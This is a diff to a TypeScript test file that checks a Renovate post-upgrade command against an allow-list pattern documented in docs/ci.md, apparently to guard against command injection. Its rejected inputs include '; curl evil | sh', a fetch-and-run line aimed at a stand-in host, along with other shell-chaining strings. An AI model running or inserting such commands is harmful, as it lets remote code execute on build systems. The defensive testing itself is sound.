@@ -178,12 +178,13 @@ describe("the recipe for Renovate", () => {
   });
 
   const [line = "", ...others] = packageRules[0].postUpgradeTasks.commands as string[];
-  const [, allowed = ""] = /`"(\^\/opt[^`]*)"`/.exec(readFileSync(join(REPOSITORY, "docs/ci.md"), "utf8")) ?? [];
+  const [list = "[]"] = /^\["\^\/opt.*\]$/m.exec(readFileSync(join(REPOSITORY, "docs/ci.md"), "utf8")) ?? [];
+  const [allowed = "", ...moreAllowed] = JSON.parse(list) as string[];
 
   test("is one command with a fixed path that names no file of the repository, and the only one that is allowed", () => {
-    expect(others).toEqual([]);
+    expect([...others, ...moreAllowed]).toEqual([]);
     expect(line).not.toMatch(/npx|\{\{|[;&|$`<>]/);
-    const pattern = new RegExp(JSON.parse(`"${allowed}"`));
+    const pattern = new RegExp(allowed);
     expect(pattern.test(line)).toBe(true);
     const more = ["; curl evil | sh", " && x", "\nx", " x", "$(x)", ".x"];
     for (const other of [
